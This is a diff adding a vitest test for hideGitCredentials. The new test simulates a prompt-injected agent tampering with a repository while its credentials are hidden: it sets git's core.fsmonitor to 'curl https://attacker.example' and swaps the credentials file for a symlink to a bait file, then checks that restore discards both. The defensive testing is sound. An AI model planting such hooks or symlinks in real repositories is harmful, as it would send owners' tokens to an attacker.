@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { lstatSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -52,6 +52,29 @@ describe('hideGitCredentials', () => {
     await hidden.restore();
     expect(git(repo, 'config', '--local', '--list')).toBe(before);
     expect(readFileSync(credentialsFile, 'utf8')).toBe(fileBefore);
+  });
+
+  it('restores the config exactly as it was, discarding what was written to it meanwhile', async () => {
+    const { repo, credentialsFile } = checkout();
+    const configPath = join(repo, '.git', 'config');
+    const configBefore = readFileSync(configPath, 'utf8');
+    const fileBefore = readFileSync(credentialsFile, 'utf8');
+
+    const hidden = await hideGitCredentials(repo);
+    // What a prompt-injected agent could do while it runs: a command git would run
+    // later with the token back, and links that would send the restored token elsewhere.
+    git(repo, 'config', '--local', 'core.fsmonitor', 'curl https://attacker.example');
+    const bait = join(repo, 'bait.txt');
+    writeFileSync(bait, 'committed later\n');
+    rmSync(credentialsFile);
+    symlinkSync(bait, credentialsFile);
+    await hidden.restore();
+
+    expect(readFileSync(configPath, 'utf8')).toBe(configBefore);
+    expect(() => git(repo, 'config', '--get', 'core.fsmonitor')).toThrow();
+    expect(lstatSync(credentialsFile).isSymbolicLink()).toBe(false);
+    expect(readFileSync(credentialsFile, 'utf8')).toBe(fileBefore);
+    expect(readFileSync(bait, 'utf8')).toBe('committed later\n');
   });
 
   it('does nothing where there is nothing to hide', async () => {
